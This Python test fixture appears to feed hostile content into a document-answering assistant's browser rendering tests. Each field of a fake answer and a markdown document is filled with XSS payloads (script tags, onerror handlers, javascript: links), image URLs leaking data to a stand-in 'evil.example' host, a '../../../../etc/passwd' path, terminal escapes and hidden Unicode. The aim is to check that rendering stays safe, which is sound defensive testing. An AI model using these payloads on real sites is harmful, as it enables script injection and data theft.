"""Words that try to run, to load, to steer or to hide, wherever words may come from."""

from __future__ import annotations

from assistant.domain.answers import Answer, SentenceKind, Status, Suggestion, Support
from tests.browser.stage import answer, citation, sentence

EVIL = "http://evil.example"
PAYLOADS = (
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    f'<img src="{EVIL}/leak.png?q=tajne">',
    '"><svg/onload=window.__pwned=1>',
    "<svg><script>window.__pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/y.css)</style>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/y>",
    f"<form action={EVIL}><button autofocus onfocus=window.__pwned=1>kliknij</button></form>",
    "<a href=javascript:window.__pwned=1>kliknij</a>",
    f"![obraz]({EVIL}/x.png?q=tajne)",
    f"[kliknij]({EVIL}/?q=tajne) <{EVIL}/auto> {EVIL}/goly-adres",
    "[kliknij](javascript:window.__pwned=1) ![x](data:text/html;base64,PHNjcmlwdD4x)",
    "data:text/html,<script>parent.__pwned=1</script>",
    "</script><script>window.__pwned=1</script><!--",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} {n} {count} %s",
    "**<img src=x onerror=window.__pwned=1>** `<b onclick=1>` *<i onmouseover=1>*",
    "\x1b[31mczerwony\x1b[0m \x1b]8;;http://evil.example\x07łącze\x1b]8;;\x07 \x9b2J",
    "\u202etxet desrever\u202c \u2066izolacja\u2069 \u061c",
    "ukryte\u200b\u200d\u2060\ufeff\U000e0041\U000e0042 znaki",
    "nowy\u2028wiersz\u2029akapit\x00\x07\x08\x7f",
    "x" + "\u0301" * 60 + " Zalgo",
)
ALL = " ".join(PAYLOADS)
QUESTION = "Zła odpowiedź"


def bad(question: str, document_id: str, lang: str = "pl", status: Status = Status.ANSWERED) -> Answer:
    """An answer that is hostile in every field."""
    forms = ("sentence", "lead", "item", "header", "row")
    kinds = ((SentenceKind.QUOTED, Support.SUPPORTED), (SentenceKind.GENERATED, Support.UNSUPPORTED))
    sentences = [
        sentence(f"{number}. {words} | {words}" if form == "item" else f"{words} | {words}", 1, 2, 99, **given)
        for number, words in enumerate(PAYLOADS, 1)
        for form in forms
        for given in ({"form": form, "kind": kinds[number % 2][0], "support": kinds[number % 2][1]},)
    ]
    named = {"title": ALL, "edition": ALL, "state_of_law": ALL, "headings": (ALL, *PAYLOADS), "language": ALL}
    citations = [
        citation(1, document_id, ALL, path=f"{PAYLOADS[1]}.md", **named),
        citation(2, "../../../../etc/passwd", ALL, path=f"../../{PAYLOADS[3]}.pdf", pages=(1, 9), **named),
    ]
    suggestions = [
        Suggestion(ALL),
        Suggestion(ALL, document_id, ALL, f"{PAYLOADS[1]}.pdf", (1, 2), (ALL,)),
        Suggestion(ALL, "javascript:window.__pwned=1", ALL, "x.pdf", (1, 2), (ALL,)),
    ]
    rest = {"suggestions": suggestions, "notices": PAYLOADS, "opening": "\n".join((ALL, *PAYLOADS)), "lang": lang}
    return answer(question, sentences, citations, status=status, **rest)


# A document: its front matter, headings, lists, tables and text. The question finds it by words nobody else has.
ASKED = "Czym jest trąbka sygnałowa Neptuna?"
PRINTABLE = [words for words in PAYLOADS if words.isprintable() and "|" not in words]
_WORDS = "\n\n".join(f"Trąbka sygnałowa Neptuna mówi: {words}" for words in PRINTABLE)
_ITEMS = "\n".join(f"- trąbka {words}" for words in PRINTABLE)
_ROWS = "\n".join(f"| {words} | Neptun |" for words in PRINTABLE)
DOCUMENT = f"""---
title: 'Trąbka <img src=x onerror=window.__pwned=1> [k]({EVIL}) **t**'
edition: '<svg/onload=window.__pwned=1>'
state_of_law: '2026-01-01'
---
# Trąbka <script>window.__pwned=1</script>

## Czym jest trąbka sygnałowa Neptuna? <img src="{EVIL}/h.png" onerror=window.__pwned=1>

Trąbka sygnałowa Neptuna to <img src=x onerror=window.__pwned=1> przyrząd ![x]({EVIL}/x.png) do dawania znaków.

{_WORDS}

{_ITEMS}

| <img src=x onerror=window.__pwned=1> | co |
| --- | --- |
{_ROWS}
"""
FILE = 'zly "><img src=x onerror=window.__pwned=1>.md'
